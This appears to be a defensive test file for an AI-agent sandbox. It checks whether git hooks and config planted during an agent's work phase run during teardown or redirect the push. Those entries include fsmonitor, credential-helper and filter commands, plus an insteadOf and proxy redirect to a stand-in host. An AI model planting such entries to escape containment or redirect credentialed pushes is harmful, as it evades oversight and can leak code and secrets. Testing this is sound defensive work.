/**
 * What work leaves in the workspace for teardown to run, or to send elsewhere: hooks and configuration of a repository.
 *
 *   node --test test/cluster/escape/teardown.proof.ts
 *
 * Two AgentRunners with the same work. One tears down as the examples do: what was left is fetched into a repository of its
 * own, and pushed from there. The other runs git where the work was, and all that was planted has its way.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { loadAgentImage } from '../agents/images.ts';
import { until } from '../commands.ts';
import { type GitServer, startGitServer } from '../outside/repositories.ts';
import { SET_UP, setUp, type Yard } from './set-up.ts';

const TIMEOUT = { timeout: 900_000 };
const GIT = 'localhost/tollgate-test/escape-git:1';
const HOST = 'git-teardown.escape.example';
/** Teardown may reach it too: the network is not what stops anything here. */
const ELSEWHERE = 'elsewhere-teardown.escape.example';
const CREDENTIAL = { user: 'x-access-token', token: 'ghp_theRealOneOfTheEscapeTests' };
const REPOSITORY = 'team/app.git';
const ROUTE = 'http://127.0.0.1:4141/git/app';

/** A program of the attacker's, which leaves a file where it was run. */
const planted = (name: string) => `touch /workspace/ran-${name}`;

const HOOKS = ['pre-commit', 'post-commit', 'pre-push', 'reference-transaction', 'post-index-change'];

const WORK = `
  cd app
  git config user.name agent
  git config user.email agent@escape.example
  echo done > work.txt
  git add work.txt
  git commit --quiet --message=Work
  for hook in ${HOOKS.join(' ')}; do
    printf '#!/bin/sh\\ntouch /workspace/ran-hook-%s\\n' $hook > .git/hooks/$hook
    chmod +x .git/hooks/$hook
  done
  printf '[url "https://${ELSEWHERE}/"]\\n  insteadOf = http://127.0.0.1:4141/\\n[http]\\n  sslVerify = false\\n' > /workspace/more.config
  cat >> .git/config <<'END'
[core]
  fsmonitor = "${planted('fsmonitor')}; false"
  sshCommand = "${planted('ssh')}; false"
  alternateRefsCommand = "${planted('alternates')}; true"
[uploadpack]
  packObjectsHook = "${planted('pack-objects')}; true"
[filter "planted"]
  clean = "${planted('filter')}; cat"
[credential]
  helper = "!${planted('credential-helper')}; true"
[includeIf "gitdir:/workspace/"]
  path = /workspace/more.config
[http "http://127.0.0.1:4141/"]
  proxy = http://${ELSEWHERE}:3128
END
  echo '* filter=planted' > .gitattributes
  echo more > dirty.txt`;

/** As examples/kubernetes/claude-code-runner.yaml has it. */
const CAREFUL = `
  git init --quiet --bare /tmp/out
  cd /tmp/out
  git fetch --quiet --no-tags /workspace/app HEAD
  git push --quiet ${ROUTE} FETCH_HEAD:refs/heads/agents/careful`;

const CARELESS = `
  cd /workspace/app
  git status --short || true
  git add --all || true
  git commit --quiet --message=Rest || true
  echo url=https://${HOST} | git credential fill || true
  git push --quiet ssh://git@${HOST}/${REPOSITORY} HEAD:refs/heads/agents/careless || true
  git push --quiet ${ROUTE} HEAD:refs/heads/agents/careless || true`;

/** What came to life, seen with nothing of git's. */
const LOOK = 'for file in /workspace/ran-*; do echo "saw $file"; done';

let yard: Yard;
let repositories: GitServer;

interface Runner {
  readonly status?: { readonly phase?: string };
}

before(async () => {
  yard = await setUp('teardown', 69, { names: ['elsewhere-teardown'] });
  const { cluster, held, authority } = yard;
  await loadAgentImage(cluster, 'git', [GIT]);
  repositories = await startGitServer(cluster, authority, [HOST], {
    host: 70,
    credential: `${CREDENTIAL.user}:${CREDENTIAL.token}`,
  });
  repositories.create(REPOSITORY, { 'README.md': 'new\n' });
  const network = { access: 'allowlist', hosts: [HOST, ELSEWHERE] };
  await cluster.apply([
    {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'git', namespace: held },
      stringData: { token: CREDENTIAL.token },
    },
    {
      apiVersion: 'tollgate.dev/v1alpha1',
      kind: 'ToolProfile',
      metadata: { name: 'engineer', namespace: held },
      spec: {
        tier: 'full_vm_tools',
        network: { setup: network, work: { access: 'local' }, teardown: network },
      },
    },
  ]);
}, SET_UP);

after(async () => {
  await yard?.cluster.kubectl(['delete', 'agentrunners', '--all', '-n', yard.held, '--timeout=120s'], {
    timeout: 130_000,
  });
  repositories?.stop();
  await yard?.close();
});

const command = (script: string) => ({ command: ['sh', '-euc', script] });

/** Runs it to its end. @returns what its teardown wrote, and how it ended */
async function run(name: string, teardown: string): Promise<{ phase: string; said: string }> {
  const { cluster, held } = yard;
  await cluster.apply({
    apiVersion: 'tollgate.dev/v1alpha1',
    kind: 'AgentRunner',
    metadata: { name, namespace: held },
    spec: {
      ...{ agent: 'custom', image: GIT, imagePullPolicy: 'Never', toolProfile: 'engineer' },
      git: [
        {
          name: 'app',
          url: `https://${HOST}/${REPOSITORY}`,
          secret: { name: 'git', key: 'token' },
          push: { branches: ['agents/*'] },
        },
      ],
      setup: command(`git clone --quiet ${ROUTE} app`),
      work: command(WORK),
      teardown: command(`${teardown}\n${LOOK}`),
    },
  });
  let now: Runner = {};
  const selector = `tollgate.dev/runner=${name}`;
  const logs = (phase: string) =>
    cluster.kubectl([
      'logs',
      '-n',
      held,
      '-l',
      `${selector},tollgate.dev/phase=${phase}`,
      '-c',
      'agent',
      '--tail=-1',
    ]);
  await until(
    () => `${name} has ended: ${JSON.stringify(now.status)}`,
    async () => {
      now = await cluster.get<Runner>(['agentrunner', name, '-n', held]);
      return ['Succeeded', 'Failed', 'Refused'].includes(now.status?.phase ?? '');
    },
    { timeout: 600_000, every: 1_000 },
  );
  return { phase: now.status?.phase ?? '', said: await logs('teardown') };
}

const sentElsewhere = () => yard.seen().filter(({ host }) => host === ELSEWHERE);
const pushed = (branch: string) => repositories.git(REPOSITORY, 'branch', '--list', branch).trim();

describe('what work plants in its repository', TIMEOUT, () => {
  it('is neither run nor gone by where teardown fetches the work into a repository of its own', async () => {
    const { phase, said } = await run('careful', CAREFUL);
    assert.equal(phase, 'Succeeded', said);
    assert.equal(said.trim(), 'saw /workspace/ran-*', 'nothing has run');
    assert.deepEqual(sentElsewhere(), []);
    assert.equal(
      repositories.git(REPOSITORY, 'log', '--format=%an: %s', 'agents/careful'),
      'agent: Work\na: first',
    );
  });

  it('has its way where teardown runs git in the workspace', async () => {
    const { said } = await run('careless', CARELESS);
    for (const name of [
      ...['fsmonitor', 'filter', 'credential-helper', 'ssh'],
      ...['pre-commit', 'post-commit', 'reference-transaction', 'post-index-change'].map(
        (hook) => `hook-${hook}`,
      ),
    ])
      assert.match(said, new RegExp(`saw /workspace/ran-${name}$`, 'm'));
    assert.ok(
      sentElsewhere().some(({ path }) => path.startsWith('/git/app/')),
      JSON.stringify(yard.seen()),
    );
    assert.equal(pushed('agents/careless'), '', 'it has gone elsewhere instead');
  });
});
